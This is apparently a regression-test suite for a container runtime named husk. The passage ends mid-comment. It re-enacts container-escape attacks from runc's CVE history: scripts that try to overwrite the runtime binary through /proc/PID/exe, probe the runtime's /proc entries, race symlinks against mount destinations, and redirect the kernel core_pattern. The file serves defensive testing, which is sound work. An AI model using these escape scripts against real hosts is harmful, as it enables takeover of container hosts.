#!/usr/bin/env bats
# Escape-class attacks, one section per CVE class of runc's history. Each test does
# what the real exploit did, from inside a container (or with what an image or a
# caller controls), and then checks the HOST: the husk binary's bytes, host files
# and dirs, the host's mount table, what a process outside the container sees.
# Property checks of the same mechanisms live elsewhere (process.bats: sealed
# /proc/PID/exe, fd leaks; mounts.bats SECURITY tests; failures.bats ids); these
# are the attacks themselves.

load helpers

# Host mounts a test makes itself are undone before the shared leftover check.
host_mount() {
    mount "$@" || return 1
    echo "${*: -1}" >>"$TEST_DIR/host-mounts"
}

teardown() {
    # Background attackers/loops a test started on the host.
    if [ -f "$TEST_DIR/bg-pids" ]; then
        while read -r p; do kill "$p" 2>/dev/null || true; done <"$TEST_DIR/bg-pids"
    fi
    for id in $("$HUSK_BIN" --root "$ROOT" list -q 2>/dev/null); do
        "$HUSK_BIN" --root "$ROOT" delete --force "$id" >/dev/null 2>&1 || true
    done
    if [ -f "$TEST_DIR/host-mounts" ]; then
        tac "$TEST_DIR/host-mounts" | while read -r m; do umount "$m" 2>/dev/null || umount -l "$m"; done
    fi
    husk_teardown
}

# The runtime's own message is exactly one line.
assert_one_line() {
    local n
    n=$(printf '%s\n' "$1" | grep -c .)
    [ "$n" -eq 1 ] || fail "expected one error line, got $n:" "$1"
}

# The entries of a dir, without the husk wrapper's own io-* capture files.
entries() {
    ls -A "$1" | grep -v '^io-' || true
}

# A second bundle for a second container, sharing the cached rootfs.
second_bundle() {
    local b=$1
    mkdir -p "$b"
    cp -a "$BUNDLE/rootfs" "$b/rootfs"
    cp "$BUNDLE/config.json" "$b/config.json"
}

# cfg FILE JQ_EXPR [jq args] — update_config for another bundle's config.
cfg() {
    local f=$1 expr=$2 t
    shift 2
    t=$(mktemp "$f.XXXXXX")
    jq "$expr" "$@" <"$f" >"$t" && mv "$t" "$f"
}

# ============================================================================
# CVE-2019-5736 — host binary overwrite through /proc/self/exe.
# The attack: while the runtime enters the container (runc exec / runc init), the
# process in the container's pid namespace IS the runtime binary for a moment.
# A container process opens /proc/<that pid>/exe (directly for writing, or
# read-only to keep a handle and write through /proc/self/fd/N once the binary is
# no longer busy) and overwrites the runtime on the host: the next runtime call
# runs the attacker's code as host root.
# ============================================================================

# The attacker: loops over every process of its pid namespace that is not one of
# its own busybox processes and tries to write to its exe, directly and through a
# handle kept open. Logs what it saw (SEEN: a foreign process, EXE: its exe link
# could be read, WROTE: a write went through) to /attack.log.
write_exe_attacker() {
    cat >"$1/attack.sh" <<'EOF'
end=$(($(date +%s) + 60))
while [ ! -e /stop ] && [ "$(date +%s)" -lt $end ]; do
    for d in /proc/[0-9]*; do
        p=${d#/proc/}
        [ "$p" = "$$" ] && continue
        l=$(readlink "$d/exe" 2>/dev/null)
        [ "$l" = /bin/busybox ] && continue
        echo "SEEN $p $(head -n1 "$d/status" 2>/dev/null)" >>/attack.log
        [ -n "$l" ] && echo "EXE $p $l" >>/attack.log
        if (echo PWNED >>"$d/exe") 2>/dev/null; then echo "WROTE $p $l" >>/attack.log; fi
        # runc's exploit: hold the exe read-only, write once it is no longer busy
        ( exec 7<"$d/exe" || exit 1
          # by now it may have exec'd its program: that one is the container's own
          [ "$(readlink /proc/self/fd/7)" = /bin/busybox ] && exit 1
          i=0
          while [ $i -lt 20 ]; do
              if (echo PWNED >>/proc/self/fd/7) 2>/dev/null; then echo "WROTE-LATER $p" >>/attack.log; exit 0; fi
              i=$((i + 1)); usleep 20000
          done; exit 0 ) 2>/dev/null && echo "HELD $p" >>/attack.log
    done
done
echo done >>/attack.log
EOF
}

@test "CVE-2019-5736: a container racing 30 husk exec cannot write to the husk binary" {
    # Under valgrind husk's processes run valgrind's tool binary, and husk skips its
    # sealed-memfd re-exec (src/runtime/selfclone.c): the defence under test is not there,
    # and a successful attack would land on the host's valgrind.
    skip_under_valgrind "the exe of husk's processes is valgrind's tool binary"
    local sum i
    sum=$(sha256sum <"$HUSK_BIN")
    write_exe_attacker "$BUNDLE/rootfs"
    set_cmd sh /attack.sh
    run husk run -d --bundle "$BUNDLE" "$ID"
    assert_success
    for i in $(seq 1 30); do
        run husk exec "$ID" true
        assert_success
    done
    touch "$BUNDLE/rootfs/stop"
    for i in $(seq 1 100); do
        grep -q '^done' "$BUNDLE/rootfs/attack.log" 2>/dev/null && break
        sleep 0.1
    done
    grep -q '^done' "$BUNDLE/rootfs/attack.log" || fail "attacker did not finish: $(tail -n 5 "$BUNDLE/rootfs/attack.log")"
    echo "attacker saw $(grep -c '^SEEN' "$BUNDLE/rootfs/attack.log") foreign process(es)" >&3
    # Never a write, never even a handle on a husk process's exe.
    run grep -E '^(WROTE|HELD|EXE)' "$BUNDLE/rootfs/attack.log"
    [ "$status" -ne 0 ] || fail "attacker got at the exe:" "$output"
    assert_equal "$(sha256sum <"$HUSK_BIN")" "$sum"
    # and husk still runs
    run "$HUSK_BIN" --version
    assert_success
}

# The exploit's actual trigger: a program of the container whose first line is
# "#!/proc/self/exe". The kernel resolves that interpreter in the process that
# execve()s the program — husk's exec child, or the init's stage 2 at `start` — so
# husk's own binary runs as a process of the container, and an ordinary dumpable
# one: the container may open /proc/PID/exe. "--log=/block" makes that husk block
# opening a fifo of the container, so the attacker has all the time it needs: it
# holds /proc/PID/exe open, lets the husk go (it exits: "unknown command"), and
# once nothing executes the file any more, reopens its handle for writing. That
# works against a husk running from its own binary on a writable filesystem. The
# husk under attack is a copy, so a defence that fails costs the copy only.
write_selfexe_attacker() {
    printf '#!/proc/self/exe --log=/block\n' >"$1/evil"
    chmod 755 "$1/evil"
    cat >"$1/attack.sh" <<'EOF'
rm -f /block; mkfifo /block
echo ready >/ready
end=$(($(date +%s) + 30)) p=
while [ -z "$p" ] && [ "$(date +%s)" -lt $end ]; do
    for d in /proc/[0-9]*; do
        l=$(readlink "$d/exe" 2>/dev/null) || continue
        [ "$l" = /bin/busybox ] || { p=${d#/proc/}; break; }
    done
done
[ -n "$p" ] || { echo "NOTHING: no foreign process" >>/attack.log; exit 0; }
echo "SEEN $p exe=$(readlink /proc/$p/exe)" >>/attack.log
exec 7</proc/$p/exe && echo "HELD $p" >>/attack.log
(echo PWNED >>/proc/$p/exe) 2>>/attack.log && echo "WROTE $p" >>/attack.log
cat /block >/dev/null     # the husk opens it, logs, exits
while [ -d /proc/$p ]; do usleep 10000; done
i=0
while [ $i -lt 20 ]; do
    if (echo PWNED >>/proc/self/fd/7) 2>>/attack.log; then echo "WROTE-LATER $p" >>/attack.log; break; fi
    i=$((i + 1)); usleep 20000
done
echo done >>/attack.log
EOF
}

# husk_copy ROOTFS: $TEST_DIR/husk-copy, the husk under attack; a dynamically linked
# one (the ASan build) gets its loader and libraries into ROOTFS, at the same paths,
# so that it can run there as the container's process.
husk_copy() {
    local lib
    cp "$HUSK_BIN" "$TEST_DIR/husk-copy"
    ldd "$TEST_DIR/husk-copy" 2>/dev/null | awk '/=> \// { print $3 } /^\t\/[^ ]+ \(/ { print $1 }' |
        while read -r lib; do install -D -m 0755 "$(readlink -f "$lib")" "$1$lib"; done
}

# attack_result ROOTFS SUM: the attacker saw and held a husk process's exe, and
# could not write the copy of husk.
attack_result() {
    local i log
    for i in $(seq 1 150); do
        grep -q '^done\|^NOTHING' "$1/attack.log" 2>/dev/null && break
        sleep 0.1
    done
    log=$(cat "$1/attack.log" 2>/dev/null)
    echo "$log" | head -n 8 >&3
    [[ $log == *HELD* ]] || fail "the attacker never held a husk process's exe (no test):" "$log"
    [[ $log == *done* ]] || fail "attacker did not finish:" "$log"
    [[ $log != *WROTE* ]] || fail "the container wrote the husk binary:" "$log"
    assert_equal "$(sha256sum <"$TEST_DIR/husk-copy")" "$2"
}

@test "CVE-2019-5736: husk exec of a #!/proc/self/exe program cannot get the husk binary written" {
    skip_under_valgrind "the exe of husk's processes is valgrind's tool binary"
    require_husk
    local sum
    husk_copy "$BUNDLE/rootfs"
    sum=$(sha256sum <"$TEST_DIR/husk-copy")
    write_selfexe_attacker "$BUNDLE/rootfs"
    set_cmd sh /attack.sh
    run husk run -d --bundle "$BUNDLE" "$ID"
    assert_success
    wait_for_file "$BUNDLE/rootfs/ready"
    # The exec'd "program" is husk itself; it fails ("unknown command") once released.
    run "$TEST_DIR/husk-copy" --root "$ROOT" exec "$ID" /evil
    attack_result "$BUNDLE/rootfs" "$sum"
}

@test "CVE-2019-5736: a #!/proc/self/exe init started by create/start cannot get the husk binary written" {
    skip_under_valgrind "the exe of husk's processes is valgrind's tool binary"
    require_husk
    local sum a_pid B=$TEST_DIR/b id2
    husk_copy "$BUNDLE/rootfs"
    sum=$(sha256sum <"$TEST_DIR/husk-copy")
    write_selfexe_attacker "$BUNDLE/rootfs"
    # A: the attacker. B: joins A's pid namespace, on the same rootfs directory (so
    # the same fifo), and its init's program is /evil: B's stage 2 exec's it.
    set_cmd sh /attack.sh
    run husk run -d --bundle "$BUNDLE" "$ID"
    assert_success
    wait_for_file "$BUNDLE/rootfs/ready"
    a_pid=$(state_field "$ID" pid)
    mkdir -p "$B"
    jq --arg p "$a_pid" --arg r "$BUNDLE/rootfs" '
        .root.path = $r
        | .linux.namespaces |= (map(select(.type != "pid")) + [{type: "pid", path: "/proc/\($p)/ns/pid"}])
        | .process.args = ["/evil"]' "$BUNDLE/config.json" >"$B/config.json"
    id2=$(new_id)
    # (create's stdio: files, as husk() does, or the init would hold bats' pipes)
    "$TEST_DIR/husk-copy" --root "$ROOT" create --bundle "$B" "$id2" </dev/null >"$TEST_DIR/b.out" 2>&1 3>&- ||
        fail "create B: $(cat "$TEST_DIR/b.out")"
    "$TEST_DIR/husk-copy" --root "$ROOT" start "$id2" >>"$TEST_DIR/b.out" 2>&1 3>&- ||
        fail "start B: $(cat "$TEST_DIR/b.out")"
    attack_result "$BUNDLE/rootfs" "$sum"
}

# ============================================================================
# CVE-2016-9962 (and the 5736 window, made long) — a container process ptraces
# or opens /proc/<pid>/{mem,environ,fd,cwd,root,exe} of the runtime's stage that
# has joined the container but not yet exec'd, and through it reaches host fds,
# the host's root or the runtime binary.
# To make the window certain, container B joins A's user and pid namespaces and
# has a createContainer hook that sleeps: for 2 s, B's husk stage 2 sits in A's
# pid namespace holding its host fds. A is root in that user namespace with every
# capability (CAP_SYS_PTRACE included) — the only thing between it and B's stage
# is that the stage is not dumpable (its mm belongs to the host user namespace).
# ============================================================================

@test "CVE-2016-9962: a husk stage inside the container's pid ns is not reachable through /proc" {
    local sum a_pid hookdir i
    sum=$(sha256sum <"$HUSK_BIN")
    mkdir -p "$TEST_DIR/hostonly"
    echo HOSTSECRET >"$TEST_DIR/hostonly/secret"
    # A: user namespace (0 -> 200000, 65536 ids), every capability.
    chmod 755 "$TEST_DIR" "$BUNDLE"
    chown -R 200000:200000 "$BUNDLE/rootfs"
    update_config '
        .linux.namespaces += [{type: "user"}]
        | .linux.uidMappings = [{containerID: 0, hostID: 200000, size: 65536}]
        | .linux.gidMappings = [{containerID: 0, hostID: 200000, size: 65536}]
        | .mounts |= map(select(.type != "cgroup" and .destination != "/sys"))
        | .process.capabilities = ({bounding: $c, effective: $c, permitted: $c})
    ' --argjson c '["CAP_CHOWN","CAP_DAC_OVERRIDE","CAP_DAC_READ_SEARCH","CAP_FOWNER","CAP_FSETID",
        "CAP_KILL","CAP_SETGID","CAP_SETUID","CAP_SETPCAP","CAP_NET_BIND_SERVICE","CAP_NET_RAW",
        "CAP_SYS_CHROOT","CAP_SYS_PTRACE","CAP_SYS_ADMIN","CAP_MKNOD","CAP_AUDIT_WRITE","CAP_SETFCAP"]'
    cat >"$BUNDLE/rootfs/attack.sh" <<'EOF'
end=$(($(date +%s) + 60))
while [ ! -e /stop ] && [ "$(date +%s)" -lt $end ]; do
    for d in /proc/[0-9]*; do
        p=${d#/proc/}
        [ "$p" = "$$" ] && continue
        name=$(sed -n 's/^Name:[[:space:]]*//p' "$d/status" 2>/dev/null)
        [ -n "$name" ] || continue
        # The hook itself is the config's own host program, exec'd and dumpable: in
        # a shared pid + user namespace the container can reach it as it could in
        # runc (see the report); the target here is husk's stage.
        [ "$name" = sleep ] && continue
        l=$(readlink "$d/exe" 2>/dev/null)
        [ "$l" = /bin/busybox ] && continue
        echo "SEEN $p $name exe=$l" >>/attack.log
        f=""
        [ -n "$l" ] && f="$f EXE:$l"
        v=$(ls -l "$d/fd/" 2>/dev/null) && f="$f FD:$(echo $v)"
        cat "$d/environ" >/dev/null 2>&1 && f="$f ENVIRON"
        head -c 1 "$d/mem" >/dev/null 2>&1 && f="$f MEM"
        v=$(ls "$d/root/" 2>/dev/null) && f="$f ROOT:$(echo $v)"
        v=$(readlink "$d/cwd" 2>/dev/null) && f="$f CWD:$v"
        (echo PWNED >>"$d/exe") 2>/dev/null && f="$f WROTE"
        for fd in "$d"/fd/*; do
            [ -e "$fd/secret" ] && f="$f HOSTFD:$fd:$(cat "$fd/secret")"
        done
        # Whatever succeeded counts only if the process is still not the
        # container's own program (it may have exec'd it meanwhile: dumpable then).
        now=$(readlink "$d/exe" 2>/dev/null)
        [ -n "$f" ] && [ -d "$d" ] && [ "$now" != /bin/busybox ] && echo "GOT $p $name:$f" >>/attack.log
    done
done
echo done >>/attack.log
EOF
    chown 200000:200000 "$BUNDLE/rootfs/attack.sh"
    set_cmd sh /attack.sh
    run husk run -d --bundle "$BUNDLE" "$ID"
    if [ "$status" -ne 0 ]; then
        skip "a user-namespace container does not run here: $output"
    fi
    a_pid=$(state_field "$ID" pid)

    # B: joins A's user and pid namespaces; a createContainer hook keeps its
    # stage 2 alive for 2 s with the host's secret dir open on a fd.
    local B=$TEST_DIR/b id2
    id2=$(new_id)
    second_bundle "$B"
    hookdir=$TEST_DIR/hook
    mkdir -p "$hookdir"
    cfg "$B/config.json" '
        .linux.namespaces |= (map(select(.type != "pid" and .type != "user")) + [
            {type: "pid", path: "/proc/\($p)/ns/pid"}, {type: "user", path: "/proc/\($p)/ns/user"}])
        | .process.args = ["true"]
        | .process.capabilities = null
        | .hooks.createContainer = [{path: "/bin/sleep", args: ["sleep", "2"]}]
    ' --arg p "$a_pid"
    exec 8<"$TEST_DIR/hostonly"
    run husk run --bundle "$B" "$id2"
    exec 8<&-
    echo "B: $status $output" >&3
    touch "$BUNDLE/rootfs/stop"
    for i in $(seq 1 100); do
        grep -q '^done' "$BUNDLE/rootfs/attack.log" 2>/dev/null && break
        sleep 0.1
    done
    local log
    log=$(cat "$BUNDLE/rootfs/attack.log")
    # The attacker did see B's husk stage (the window was there)...
    grep '^SEEN' <<<"$log" | sort -u -k2,3 | head -n 5 >&3
    [[ $log == *SEEN* ]] || fail "attacker never saw a foreign process: $log"
    # ... and got nothing out of it.
    run grep '^GOT' <<<"$log"
    [ "$status" -ne 0 ] || fail "attacker reached into a husk stage:" "$output"
    [[ $log != *HOSTSECRET* ]] || fail "host secret leaked"
    assert_equal "$(sha256sum <"$HUSK_BIN")" "$sum"
}

# ============================================================================
# CVE-2024-21626 — leaked host fds and a cwd outside the rootfs.
# The attack: an image sets WORKDIR (process.cwd, or `exec --cwd`) to
# /proc/self/fd/N, where N is a host directory fd the runtime (or its caller)
# still holds when it chdir()s: the process then starts with its cwd on the host,
# and `cat ../../../etc/shadow` walks the host. Or a fd of the runtime's survives
# execve and the program fchdir()s through it. Also the plain forms: cwd
# "/../../.." or through a symlink that points at "/" or at a host path.
# ============================================================================

# A marker only the host side has (in the bundle, next to the rootfs), and one
# only the rootfs has.
markers() {
    echo host >"$BUNDLE/HOST-ONLY-MARKER"
    echo ctr >"$BUNDLE/rootfs/ROOTFS-MARKER"
}

# assert_inside OUTPUT: `pwd -P; ls` output that shows the rootfs, not the host.
assert_inside() {
    assert_not_contains HOST-ONLY-MARKER "$1"
    assert_contains ROOTFS-MARKER "$1"
}

@test "CVE-2024-21626: no fd of husk's or of its caller reaches the init or an exec'd process" {
    mkdir -p "$TEST_DIR/hostdir"
    set_cmd sleep 100
    # The caller holds a host dir on fd 7 and fd 9 (as a careless engine might).
    exec 7<"$TEST_DIR/hostdir" 9<"$TEST_DIR/hostdir"
    run husk run -d --bundle "$BUNDLE" "$ID"
    assert_success
    run husk exec "$ID" sh -c 'ls /proc/1/fd; echo ---; ls /proc/$$/fd; echo ---; ls -l /proc/1/fd /proc/$$/fd'
    exec 7<&- 9<&-
    assert_success
    local init self
    init=$(awk '/^---$/ { n++; next } n == 0' <<<"$output" | tr '\n' ' ')
    self=$(awk '/^---$/ { n++; next } n == 1' <<<"$output" | tr '\n' ' ')
    assert_equal "$init" "0 1 2 "
    assert_equal "$self" "0 1 2 "
    assert_not_contains hostdir
    # An exec'd process cannot climb out through any fd of pid 1 or of itself.
    run husk exec "$ID" sh -c 'for f in /proc/1/fd/* /proc/$$/fd/*; do (cd "$f" 2>/dev/null && pwd -P && ls); done; echo end'
    assert_success
    assert_not_contains hostdir
    assert_not_contains "$TEST_DIR"
}

@test "CVE-2024-21626: process.cwd climbing out (/../../.., a symlink to / or to a host path) stays in the rootfs" {
    markers
    ln -s / "$BUNDLE/rootfs/escape"
    ln -s "$BUNDLE" "$BUNDLE/rootfs/hostlink"
    local cwd
    for cwd in "/../../../" "/escape/../.." "/escape/../../../.." "/hostlink/.." "/hostlink" "/hostlink/new"; do
        update_config '.process.cwd = $c' --arg c "$cwd"
        ctr_run sh -c 'pwd -P; ls; ls /'
        # /hostlink dangles inside the rootfs: made there, or refused; never the host's
        if [ "$status" -ne 0 ] && [[ $cwd == /hostlink* ]]; then
            assert_contains "cwd"
            assert_no_trace "$ID"
            continue
        fi
        assert_success
        assert_inside "$output"
        # the climbing ones end at the container's "/"
        [[ $cwd == /hostlink* ]] || assert_equal "${lines[0]}" /
    done
    assert_equal "$(ls "$BUNDLE")" "$(printf '%s\n' HOST-ONLY-MARKER config.json rootfs)"
    # husk exec --cwd the same
    set_cmd sleep 100
    run husk run -d --bundle "$BUNDLE" "$ID"
    assert_success
    for cwd in "/../../../" "/escape/../.." "/proc/../../.."; do
        run husk exec --cwd "$cwd" "$ID" sh -c 'pwd -P; ls'
        assert_success
        assert_inside "$output"
        assert_equal "${lines[0]}" /
    done
    run husk exec --cwd /hostlink "$ID" sh -c 'pwd -P; ls'
    assert_success
    assert_equal "${lines[0]}" "$BUNDLE"
    assert_not_contains HOST-ONLY-MARKER
}

@test "CVE-2024-21626: cwd /proc/self/fd/N never lands on a host directory (create and exec)" {
    markers
    local n
    # The caller holds the bundle dir (host side) open on fds 5..9: the worst case.
    exec 5<"$BUNDLE" 6<"$BUNDLE" 7<"$BUNDLE" 8<"$BUNDLE" 9<"$BUNDLE"
    for n in 3 4 5 6 7 8 9 10 11 12; do
        update_config '.process.cwd = $c' --arg c "/proc/self/fd/$n"
        ctr_run sh -c 'pwd -P; ls'
        # refused, or (a container fd) somewhere inside: never the host's dir
        assert_not_contains HOST-ONLY-MARKER
        assert_not_contains "$BUNDLE"
        [ "$status" -ne 0 ] || [[ $output == *ROOTFS-MARKER* ]] || [[ $output != *config.json* ]] ||
            fail "cwd /proc/self/fd/$n: $output"
        if [ "$status" -ne 0 ]; then
            assert_no_trace "$ID"
        fi
    done
    # A cwd to be created below such a fd, or reached through an image symlink.
    ln -s /proc/self/fd/7 "$BUNDLE/rootfs/wd"
    local cwd
    for cwd in /proc/self/fd/7/made-by-husk /wd /wd/made-by-husk /proc/1/cwd /proc/1/root/..; do
        update_config '.process.cwd = $c' --arg c "$cwd"
        ctr_run sh -c 'pwd -P; ls'
        assert_not_contains HOST-ONLY-MARKER
        [ ! -e "$BUNDLE/made-by-husk" ] || fail "cwd $cwd: a dir was made on the host"
        [ "$status" -eq 0 ] || assert_no_trace "$ID"
    done
    update_config '.process.cwd = "/"'
    set_cmd sleep 100
    run husk run -d --bundle "$BUNDLE" "$ID"
    assert_success
    for n in 3 4 5 6 7 8 9 10 7/made-by-husk; do
        run husk exec --cwd "/proc/self/fd/$n" "$ID" sh -c 'pwd -P; ls'
        assert_not_contains HOST-ONLY-MARKER
        assert_not_contains "$BUNDLE"
        [ ! -e "$BUNDLE/made-by-husk" ] || fail "exec --cwd: a dir was made on the host"
    done
    exec 5<&- 6<&- 7<&- 8<&- 9<&-
}

# ============================================================================
# CVE-2021-30465 — symlink-exchange race on mount destinations.
# The attack (runc's advisory PoC): two containers share a volume. The attacker
# keeps swapping a directory of that volume with a symlink to "/" while the
# victim is created with a mount whose destination goes through that directory.
# runc resolved the destination inside the rootfs, then mounted onto the
# resolved *path string*: if the symlink came back in between, mount(2) followed
# it and the volume landed over a host path in the victim's mount namespace —
# the host's filesystem then showed through inside the victim.
# husk resolves each destination to a fd (openat2 RESOLVE_IN_ROOT) and mounts on
# that fd, so the only possible outcomes are "inside the rootfs" or an error.
# ============================================================================

@test "CVE-2021-30465: a container swapping a symlink in a shared volume cannot redirect another's mount" {
    local VOL=$TEST_DIR/vol B=$TEST_DIR/b tag i ok=0 failed=0 id2 before_root
    tag=esc30465-$$-$RANDOM
    mkdir -p "$VOL/t" "$TEST_DIR/hostsrc"
    echo HOSTSRC >"$TEST_DIR/hostsrc/mark"
    before_root=$(ls -A /)
    second_bundle "$B"
    # A: the attacker, with the volume at /v.
    update_config '.mounts += [{destination: "/v", type: "bind", source: $v, options: ["rbind"]}]' --arg v "$VOL"
    # The PoC's renameat2(RENAME_EXCHANGE) loop, with renames that never replace
    # nor delete anything (mv -nT): /v/t is in turn the directory "dir" and the
    # symlink "lnk" (to "/"). A t that husk made while the name was free is moved
    # aside. No unlink/rmdir/rename-over ever happens, so the kernel never detaches
    # what the victim mounted: a mount missing in the victim went somewhere else.
    rmdir "$VOL/t"
    set_cmd sh -c 'end=$(($(date +%s) + 90)); mkdir /v/dir; ln -s / /v/lnk; i=0
        while [ ! -e /v/stop ] && [ "$(date +%s)" -lt $end ]; do
            i=$((i + 1))
            mv -nT /v/dir /v/t; mv -nT /v/t /v/dir
            mv -nT /v/lnk /v/t; mv -nT /v/t /v/lnk
            if [ -d /v/dir ] && [ -L /v/lnk ] && { [ -e /v/t ] || [ -L /v/t ]; }; then
                mv -nT /v/t /v/aside.$i
            fi
        done; echo done >/v/done'
    run husk run -d --bundle "$BUNDLE" "$ID"
    assert_success
    # B: the victim, the volume at /v, a tmpfs at /v/t, a host dir bound below it.
    cfg "$B/config.json" '.mounts += [
            {destination: "/v", type: "bind", source: $v, options: ["rbind"]},
            {destination: "/v/t", type: "tmpfs", source: $tag, options: ["size=1m"]},
            {destination: "/v/t/in", type: "bind", source: $h, options: ["bind"]}]
        | .process.args = ["sh", "-c", "cat /proc/self/mountinfo; ls /v/t/in 2>&1; true"]' \
        --arg v "$VOL" --arg tag "$tag" --arg h "$TEST_DIR/hostsrc"
    for i in $(seq 1 20); do
        id2=$(new_id)
        run husk run --bundle "$B" "$id2"
        if [ "$status" -eq 0 ]; then
            ok=$((ok + 1))
            # The tmpfs is in B's own tree: on a directory of the volume (where
            # the attacker's renames have moved it by now), or (symlink to "/" at
            # that instant) at B's "/"; the host dir at .../in of it. A mount made
            # on a path outside B's rootfs would be missing here: pivot_root drops
            # everything outside the new root.
            local mp hp
            mp=$(awk -v t=" - tmpfs $tag " 'index($0, t) { print $5 }' <<<"$output")
            hp=$(awk -v h="$TEST_DIR/hostsrc" '$4 == h { print $5 }' <<<"$output")
            case $mp in /v/* | /) ;; *) fail "run $i: tmpfs at '$mp' (not in B's tree):" "$output" ;; esac
            case $hp in /v/*/in | /in) ;; *) fail "run $i: host dir bound at '$hp':" "$output" ;; esac
            echo "$mp" >>"$TEST_DIR/landed"
        else
            failed=$((failed + 1))
            printf '%s\n' "${lines[-1]}" >>"$TEST_DIR/refusals"
            assert_no_trace "$id2"
        fi
        # The host: never a mount of ours, nothing made at the host's "/".
        ! grep -q "$tag" /proc/self/mountinfo || fail "run $i: tmpfs visible on the host"
        ! grep -q " $VOL/t" /proc/self/mountinfo || fail "run $i: mount on the host volume"
        assert_equal "$(ls -A /)" "$before_root"
    done
    touch "$VOL/stop"
    [ ! -f "$TEST_DIR/refusals" ] || sed "s/$ID[^ ]*/ID/; s/husk-t[0-9-]*/ID/g" "$TEST_DIR/refusals" | sort | uniq -c >&3
    [ ! -f "$TEST_DIR/landed" ] || sort "$TEST_DIR/landed" | uniq -c | sed 's/^/tmpfs landed at: /' >&3
    echo "victim runs: $ok ok, $failed refused" >&3
    [ -z "$(ls -A "$TEST_DIR/hostsrc" | grep -v '^mark$')" ]
    assert_equal "$(cat "$TEST_DIR/hostsrc/mark")" HOSTSRC
    [ ! -e /in ]
}

# ============================================================================
# CVE-2019-16884 / CVE-2023-27561 (and CVE-2025-31133/52565) — mounts onto or
# through /proc. The attacks: an image whose /proc is a symlink (to a dir the
# image controls, or climbing to a host path), so the runtime's procfs mount —
# and the LSM label writes to /proc/self/attr/* that follow — land elsewhere; a
# bind mount (a volume) aimed at /proc/self/attr/... or /proc/sys/... directly or
# through an image symlink, which replaces a kernel interface with a file the
# container controls; a maskedPaths entry the image turned into a symlink, to
# have /dev/null mounted on a host path, or to leave the real target unmasked.
# ============================================================================

@test "/proc: a rootfs whose /proc is a symlink (inside, or climbing to the host) is refused" {
    local target
    mkdir -p "$TEST_DIR/hostproc" "$BUNDLE/rootfs/fakeproc"
    rmdir "$BUNDLE/rootfs/proc"
    for target in /tmp fakeproc "../../../../../../../..$TEST_DIR/hostproc" "$TEST_DIR/hostproc"; do
        rm -f "$BUNDLE/rootfs/proc"
        ln -s "$target" "$BUNDLE/rootfs/proc"
        run --separate-stderr husk create --bundle "$BUNDLE" "$ID"
        assert_failure
        if is_husk; then
            assert_one_line "$stderr"
            assert_contains "/proc" "$stderr"
        fi
        assert_no_trace "$ID"
        assert_root_empty
        # nothing was mounted or made where the link points
        [ -z "$(ls -A "$TEST_DIR/hostproc")" ] || fail "made on the host: $(ls -A "$TEST_DIR/hostproc")"
        [ -z "$(ls -A "$BUNDLE/rootfs/fakeproc")" ]
        ! grep -q " $TEST_DIR" /proc/self/mountinfo
    done
}

@test "/proc: bind mounts aimed at /proc/self/attr or /proc/sys, directly or through a symlink, are refused" {
    local pattern dest
    pattern=$(cat /proc/sys/kernel/core_pattern)
    echo '|/tmp/pwned %p' >"$TEST_DIR/evil"
    mkdir -p "$TEST_DIR/evildir"
    ln -s /proc/sys/kernel "$BUNDLE/rootfs/k"
    ln -s /proc/self/attr "$BUNDLE/rootfs/attr"
    ln -s ../../../proc/sys "$BUNDLE/rootfs/etc/psys"
    for dest in /proc/self/attr/exec /proc/sys/kernel/core_pattern /k/core_pattern /attr/exec \
        /etc/psys/kernel/core_pattern /proc/../proc/sys/kernel/core_pattern /proc/1/attr/current; do
        cp "$BUNDLE/config.json" "$TEST_DIR/config.orig"
        add_m() { update_config '.mounts += [{destination: $d, type: "bind", source: $s, options: ["bind"]}]' \
            --arg d "$1" --arg s "$2"; }
        add_m "$dest" "$TEST_DIR/evil"
        set_cmd sh -c 'cat /proc/sys/kernel/core_pattern'
        run --separate-stderr husk run --bundle "$BUNDLE" "$ID"
        assert_failure
        is_husk && assert_contains "/proc" "$stderr"
        is_husk && assert_one_line "$stderr"
        assert_no_trace "$ID"
        cp "$TEST_DIR/config.orig" "$BUNDLE/config.json"
    done
    # and a directory bind over /proc/sys through the image's link
    add_m /etc/psys "$TEST_DIR/evildir"
    run husk run --bundle "$BUNDLE" "$ID"
    assert_failure
    assert_no_trace "$ID"
    assert_equal "$(cat /proc/sys/kernel/core_pattern)" "$pattern"
}

@test "/proc: masked paths stay masked whatever the image or the container does; a symlinked one masks nothing on the host" {
    echo HOSTSECRET >"$TEST_DIR/hostsecret"
    echo IMGSECRET >"$BUNDLE/rootfs/etc/realsecret"
    # The image turns masked entries into symlinks: to a host path (absolute),
    # climbing out, and to a file of its own.
    ln -s "$TEST_DIR/hostsecret" "$BUNDLE/rootfs/etc/m-host"
    ln -s "../../../../../../..$TEST_DIR/hostsecret" "$BUNDLE/rootfs/etc/m-climb"
    ln -s /etc/realsecret "$BUNDLE/rootfs/etc/m-own"
    update_config '.linux.maskedPaths += ["/etc/m-host", "/etc/m-climb", "/etc/m-own"]'
    # The container then tries every way around the /proc/timer_list mask it can
    # (a file any process could read unmasked: it has content on the host).
    [ "$(head -c 16 /proc/timer_list | wc -c)" -gt 0 ]
    set_cmd sh -c '
        echo "own=$(cat /etc/m-own) real=$(cat /etc/realsecret)"
        echo "tl=$(head -c 16 /proc/timer_list | wc -c)"
        umount /proc/timer_list 2>/dev/null && echo UMOUNTED
        umount -l /proc/timer_list 2>/dev/null && echo UMOUNTED
        mount -t proc proc /mnt 2>/dev/null && echo PROCMOUNTED
        ln -s /proc/timer_list /tmp/k; echo "via-link=$(head -c 16 /tmp/k | wc -c)"
        echo "via-root=$(head -c 16 /proc/1/root/proc/timer_list | wc -c)"
        echo "via-self=$(head -c 16 /proc/self/root/proc/timer_list | wc -c)"
        echo "via-dotdot=$(head -c 16 /proc/self/../1/../timer_list | wc -c)"
        echo "keys=$(wc -c </proc/keys)"
        echo "after=$(head -c 16 /proc/timer_list | wc -c)"'
    run husk run --bundle "$BUNDLE" "$ID"
    assert_success
    assert_contains "own= real="
    assert_contains "tl=0"
    assert_not_contains UMOUNTED
    assert_not_contains PROCMOUNTED
    assert_contains "via-link=0"
    assert_contains "via-root=0"
    assert_contains "via-self=0"
    assert_contains "via-dotdot=0"
    assert_contains "keys=0"
    assert_contains "after=0"
    # The host file was neither masked nor touched.
    assert_equal "$(cat "$TEST_DIR/hostsecret")" HOSTSECRET
    ! grep -q " $TEST_DIR" /proc/self/mountinfo
}

# ============================================================================
# CVE-2022-29162 — non-empty inheritable capabilities.
# The attack: runc gave every container process a full inheritable set. A
# non-root user in the container then executes a program carrying file
# capabilities in its inheritable set (setcap cap_x+ei, which the image
